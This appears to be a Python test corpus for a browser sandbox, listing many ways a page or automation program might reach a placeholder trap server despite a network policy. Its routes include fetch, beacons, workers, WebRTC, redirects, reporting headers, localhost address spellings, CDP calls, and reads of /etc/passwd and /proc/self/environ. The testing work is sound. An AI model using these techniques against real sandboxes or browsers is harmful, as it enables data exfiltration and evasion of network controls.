"""Ways out of a browser: pages of an allowed site that try to reach a trap, each with listeners of its own.

In `html`, `headers` and `program` these words stand for addresses of the attack's trap: TRAP and OWN (http, by
loopback and by the machine's own address), AUTHORITY and OWN_AUTHORITY (host and port), PORT; SITE is the origin that
the policy allows. A page is served with the attack's headers. `program` runs in the sandbox, with `page`.
"""

# ruff: noqa: E501 (a way is one line, as an attacker writes it)

from __future__ import annotations

from dataclasses import dataclass


@dataclass(frozen=True)
class PageAttack:
    """One way. It has escaped when its trap hears anything, or its program returns text with ESCAPED."""

    name: str
    group: str
    html: str = ""
    headers: tuple[tuple[str, str], ...] = ()
    program: str = ""


def _script(group: str, **ways: str) -> tuple[PageAttack, ...]:
    return tuple(
        PageAttack(name.replace("_", " "), group, f"<script type=module>{code}</script>")
        for name, code in ways.items()
    )


def _markup(group: str, **ways: str) -> tuple[PageAttack, ...]:
    return tuple(PageAttack(name.replace("_", " "), group, code) for name, code in ways.items())


def _headers(group: str, html: str = "", **ways: str) -> tuple[PageAttack, ...]:
    """Ways by one header each, given as `name: value`."""
    attacks = []
    for name, line in ways.items():
        header, _, value = line.partition(": ")
        attacks.append(PageAttack(name.replace("_", " "), group, html, ((header, value),)))
    return tuple(attacks)


_REQUESTS = _script(
    "requests",
    fetch="fetch('TRAP/'); fetch('OWN/', { mode: 'no-cors' })",
    fetch_POST="fetch('TRAP/', { method: 'POST', mode: 'no-cors', body: 'x' })",
    fetch_keepalive="addEventListener('pagehide', () => fetch('TRAP/', { keepalive: true, mode: 'no-cors' })); location = 'about:blank'",
    fetchLater="globalThis.fetchLater?.('TRAP/', { activateAfter: 0 }); globalThis.fetchLater?.('OWN/')",
    XMLHttpRequest="const x = new XMLHttpRequest(); x.open('GET', 'TRAP/'); x.send()",
    sendBeacon="navigator.sendBeacon('TRAP/', 'x'); navigator.sendBeacon('OWN/', 'x')",
    beacon_at_the_end="addEventListener('pagehide', () => navigator.sendBeacon('TRAP/', 'x')); location = 'about:blank'",
    EventSource="new EventSource('TRAP/')",
    WebSocket="new WebSocket('ws://AUTHORITY/'); new WebSocket('ws://OWN_AUTHORITY/')",
    secure_WebSocket="new WebSocket('wss://AUTHORITY/')",
    WebSocketStream="globalThis.WebSocketStream && new WebSocketStream('ws://AUTHORITY/')",
    WebTransport="new WebTransport('https://AUTHORITY/').ready.catch(() => 0)",
    dynamic_import="import('TRAP/x.js').catch(() => 0)",
    background_fetch="navigator.serviceWorker.register('/worker.js').then((r) => r.backgroundFetch?.fetch('x', ['TRAP/']))",
    by_https="fetch('https://AUTHORITY/', { mode: 'no-cors' }); fetch('https://OWN_AUTHORITY/', { mode: 'no-cors' })",
)
_WORKERS = _script(
    "workers",
    dedicated="new Worker(URL.createObjectURL(new Blob([\"fetch('TRAP/', { mode: 'no-cors' }); new WebSocket('ws://AUTHORITY/'); importScripts('TRAP/x.js')\"])))",
    shared="new SharedWorker(URL.createObjectURL(new Blob([\"fetch('TRAP/', { mode: 'no-cors' }); new WebSocket('ws://AUTHORITY/')\"])))",
    service="navigator.serviceWorker.register('/worker.js?TRAP').then((r) => navigator.serviceWorker.ready).then((r) => r.active.postMessage('TRAP/'))",
    audio_worklet="new AudioContext().audioWorklet.addModule('TRAP/x.js').catch(() => 0)",
    paint_worklet="CSS.paintWorklet?.addModule('TRAP/x.js')",
    nested="new Worker(URL.createObjectURL(new Blob([\"new Worker(URL.createObjectURL(new Blob(['fetch(\\\\'TRAP/\\\\', { mode: \\\\'no-cors\\\\' })'])))\"])))",
)
_ELEMENTS = _markup(
    "elements",
    image="<img src=TRAP/><img src=OWN/>",
    image_by_srcset="<img srcset='TRAP/ 1x'><picture><source srcset=OWN/><img></picture>",
    script="<script src=TRAP/x.js></script>",
    style_sheet="<link rel=stylesheet href=TRAP/x.css>",
    style_import="<style>@import url(TRAP/x.css)</style>",
    style_background="<style>body { background: url(TRAP/x.png) } p { cursor: url(OWN/x.cur), auto; list-style: url(TRAP/y.png) }</style><p>x",
    font="<style>@font-face { font-family: f; src: url(TRAP/x.woff2) } p { font-family: f }</style><p>text",
    frame="<iframe src=TRAP/></iframe><iframe src=OWN/></iframe>",
    object="<object data=TRAP/></object>",
    embed="<embed src=TRAP/x.pdf type=application/pdf>",
    video="<video src=TRAP/x.mp4 autoplay poster=OWN/x.png></video>",
    audio="<audio src=TRAP/x.mp3 autoplay></audio>",
    track="<video crossorigin><track default src=TRAP/x.vtt></video>",
    svg_image="<svg><image href=TRAP/x.svg /><use href='TRAP/x.svg#a' /></svg>",
    favicon="<link rel=icon href=TRAP/x.ico>",
    manifest="<link rel=manifest href=TRAP/x.json>",
    fenced_frame="<fencedframe src=TRAP/></fencedframe><portal src=TRAP/></portal>",
)
_HINTS = _markup(
    "hints",
    prefetch="<link rel=prefetch href=TRAP/>",
    preload="<link rel=preload as=script href=TRAP/x.js><link rel=modulepreload href=TRAP/y.js>",
    preconnect="<link rel=preconnect href=TRAP><link rel=preconnect href=OWN crossorigin>",
    prerender="<link rel=prerender href=TRAP/>",
    speculation_rules='<script type=speculationrules>{"prerender": [{"urls": ["TRAP/"]}], "prefetch": [{"urls": ["OWN/"]}]}</script>',
    dns_prefetch="<meta http-equiv=x-dns-prefetch-control content=on><link rel=dns-prefetch href=//OWN_AUTHORITY>",
)
_NAVIGATION = (
    *_markup(
        "navigation",
        meta_refresh="<meta http-equiv=refresh content='0; url=TRAP/'>",
        form_POST="<iframe name=f></iframe><form method=post action=TRAP/ target=f><input name=a></form><script>document.forms[0].submit()</script>",
        ping="<a ping=TRAP/ href=#x id=a>x</a><script>a.click()</script>",
        download="<a download=x href=TRAP/x id=a>x</a><script>a.click()</script>",
        popup="<script>open('TRAP/'); open('OWN/', '_blank', 'noopener')</script>",
        location="<script>location.href = 'TRAP/'</script>",
        data_document="<iframe src=\"data:text/html,<script>fetch('TRAP/', { mode: 'no-cors' })</script>\"></iframe>",
        srcdoc_document="<iframe sandbox=allow-scripts srcdoc=\"<script>fetch('TRAP/', { mode: 'no-cors' })</script>\"></iframe>",
        blob_document="<script>const f = document.createElement('iframe'); f.src = URL.createObjectURL(new Blob([\"<script>fetch('TRAP/', { mode: 'no-cors' })<\" + '/script>'], { type: 'text/html' })); document.documentElement.append(f)</script>",
    ),
    PageAttack("redirect of a frame", "navigation", "<iframe src='SITE/redirect?TRAP/'></iframe>"),
    PageAttack(
        "redirect of a fetch", "navigation", "<script>fetch('/redirect?OWN/', { mode: 'no-cors' })</script>"
    ),
    PageAttack(
        "redirect of a request of the api",
        "navigation",
        program="await page.request.get('SITE/redirect?TRAP/')",
    ),
    PageAttack(
        "redirect of a POST",
        "navigation",
        "<script>fetch('/redirect?TRAP/', { method: 'POST', mode: 'no-cors', body: 'x' })</script>",
    ),
)
_HEADERS = (
    *_headers(
        "headers",
        "<p>page",
        Refresh="refresh: 0; url=TRAP/",
        Link_preload="link: <TRAP/x.js>; rel=preload; as=script, <TRAP/>; rel=preconnect",
        Speculation_Rules='speculation-rules: "TRAP/x.json"',
        SourceMap="sourcemap: TRAP/x.map",
        Alt_Svc='alt-svc: h3=":PORT"; ma=60, h3="AUTHORITY"; ma=60',
    ),
    PageAttack(
        "report-uri",
        "headers",
        "<img src=/absent.png>",
        (("content-security-policy", "img-src 'none'; report-uri TRAP/ OWN/"),),
    ),
    PageAttack(
        "Reporting-Endpoints",
        "headers",
        "<img src=/absent.png>",
        (
            ("reporting-endpoints", 'default="TRAP/", csp="OWN/"'),
            ("content-security-policy", "img-src 'none'; report-to csp"),
            ("nel", '{"report_to": "default", "max_age": 60, "success_fraction": 1, "failure_fraction": 1}'),
            ("report-to", '{"group": "default", "max_age": 60, "endpoints": [{"url": "TRAP/"}]}'),
        ),
    ),
)
_PEER = "const c = new RTCPeerConnection({ iceServers: [SERVERS] }); c.createDataChannel('x'); await c.setLocalDescription(await c.createOffer())"
_STUN = "{ urls: ['stun:AUTHORITY', 'stun:OWN_AUTHORITY'] }"
_TURN = "{ urls: ['turn:AUTHORITY?transport=udp', 'turn:OWN_AUTHORITY?transport=TRANSPORT'], username: 'cookie', credential: 'x' }"
_CANDIDATES = """
const a = new RTCPeerConnection(), b = new RTCPeerConnection(); a.createDataChannel('x');
await a.setLocalDescription(await a.createOffer()); await b.setRemoteDescription(a.localDescription);
await b.setLocalDescription(await b.createAnswer()); await a.setRemoteDescription(b.localDescription);
for (const line of ['candidate:1 1 udp 2113937151 127.0.0.1 PORT typ host', 'candidate:2 1 tcp 1518280447 127.0.0.1 PORT typ host tcptype passive'])
  await a.addIceCandidate({ candidate: line, sdpMid: '0', sdpMLineIndex: 0 });
"""
_RTC = (
    *_script(
        "webrtc",
        STUN=_PEER.replace("SERVERS", _STUN),
        TURN_by_UDP=_PEER.replace("SERVERS", _TURN.replace("TRANSPORT", "udp")),
        TURN_by_TCP=_PEER.replace("SERVERS", _TURN.replace("TRANSPORT", "tcp")),
        TURN_by_TLS=_PEER.replace(
            "SERVERS", "{ urls: ['turns:AUTHORITY?transport=tcp'], username: 'a', credential: 'b' }"
        ),
        candidates_of_its_own=_CANDIDATES,
    ),
    PageAttack(
        "STUN in sandboxed frames",
        "webrtc",
        "<script>for (let i = 0; i < 20; i++) { const f = document.createElement('iframe'); f.sandbox = 'allow-scripts';"
        f" f.srcdoc = `<script>(async () => {{ {_PEER.replace('SERVERS', _STUN)} }})()</` + 'script>';"
        " document.documentElement.append(f) }</script>",
    ),
)
_SPELLINGS = tuple(
    PageAttack(f"address {address}", "addresses", f"<script>fetch('http://{address}:PORT/', {{ mode: 'no-cors' }})</script><iframe src='http://{address}:PORT/'></iframe>")
    for address in (
        "localhost", "a.localhost", "127.1", "0", "0x7f.1", "2130706433", "017700000001", "[::1]", "[::]",
        "[::ffff:127.0.0.1]", "[::ffff:7f00:1]", "127.0.0.1.", "localhost.", "①②⑦.0.0.1",
    )
)  # fmt: skip
_PROGRAM = (
    *(
        PageAttack(f"document {url}", "documents", program=f"await page.goto('{url}'); const text = await page.content(); return text.includes('root:') ? 'ESCAPED' : 'no'")
        for url in ("file:///etc/passwd", "view-source:file:///etc/passwd", "file:///proc/self/environ")
    ),
    PageAttack("documents of the browser", "documents", program="await page.goto('chrome://version'); return (await page.content()).includes('Command Line') ? 'ESCAPED' : 'no'"),
    PageAttack("a file in a frame", "documents", "<iframe src=file:///etc/passwd></iframe>", program="const late = new Promise((resolve) => setTimeout(resolve, 2000, '')); for (const frame of page.frames()) if ((await Promise.race([frame.content(), late])).includes('root:')) return 'ESCAPED'; return 'no'"),
    PageAttack("the request api", "program", program="await page.request.get('TRAP/').catch(() => 0); await page.request.post('OWN/', { data: 'x' }).catch(() => 0)"),
    PageAttack("goto", "program", program="await page.goto('TRAP/').catch(() => 0); await page.goto('OWN/').catch(() => 0)"),
    PageAttack(
        "CDP",
        "program",
        program="const cdp = await page.context().newCDPSession(page); for (const [method, params] of ["
        "['Page.navigate', { url: 'TRAP/' }], ['Network.loadNetworkResource', { url: 'TRAP/', options: { disableCache: true, includeCredentials: false } }],"
        "['Target.createTarget', { url: 'TRAP/' }], ['Browser.getVersion', {}], ['Target.createBrowserContext', { proxyServer: 'direct://' }],"
        "['Fetch.enable', {}], ['Network.emulateNetworkConditions', { offline: false, latency: 0, downloadThroughput: -1, uploadThroughput: -1 }]])"
        " await cdp.send(method, params).catch(() => 0)",
    ),
    PageAttack("a route that goes elsewhere", "program", program="await page.route('**/elsewhere', (route) => route.continue({ url: 'TRAP/' })); await page.evaluate(() => fetch('/elsewhere').catch(() => 0)); await page.route('**/more', async (route) => route.fulfill({ response: await route.fetch({ url: 'OWN/' }) })); await page.evaluate(() => fetch('/more').catch(() => 0))"),
)  # fmt: skip

PAGE_CORPUS: tuple[PageAttack, ...] = (
    _REQUESTS + _WORKERS + _ELEMENTS + _HINTS + _NAVIGATION + _HEADERS + _RTC + _SPELLINGS + _PROGRAM
)
